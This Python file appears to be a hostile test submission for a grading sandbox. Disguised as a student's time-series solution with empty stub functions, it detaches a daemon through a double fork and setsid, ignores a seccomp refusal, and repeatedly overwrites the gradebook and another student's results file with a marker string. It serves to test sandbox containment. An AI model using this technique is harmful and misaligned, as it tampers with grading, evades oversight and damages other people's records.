"""Attack: a daemon that escapes the process group (double fork and setsid), waits for the
referee to finish, then rewrites the gradebook and another student's results."""

import os
import sys

KNOWN = {}  # filled in by the self-test

DAEMON = """
import sys, time
out = sys.argv[1]
for _ in range(600):
    for name in ("gradebook.csv", "results/reference.json"):
        try:
            with open(out + "/" + name, "w") as handle:
                handle.write("kata_hostile_marker")
        except OSError:
            pass
    time.sleep(0.2)
"""


def start_daemon():
    if os.fork() != 0:
        return
    try:
        os.setsid()
    except OSError:  # refused where seccomp runs: go on without
        pass
    if os.fork() != 0:
        os._exit(0)
    # The marker in its command line lets the self-test find it, should it survive.
    os.execv(sys.executable, [sys.executable, "-c", DAEMON, KNOWN.get("out", "/nonexistent"), "kata_hostile_marker"])


start_daemon()


def make_windows(series, time_steps):
    start_daemon()  # one per child, should the first be ended with it
    return None, None


def build_many_to_one(time_steps, features, units=50):
    return None
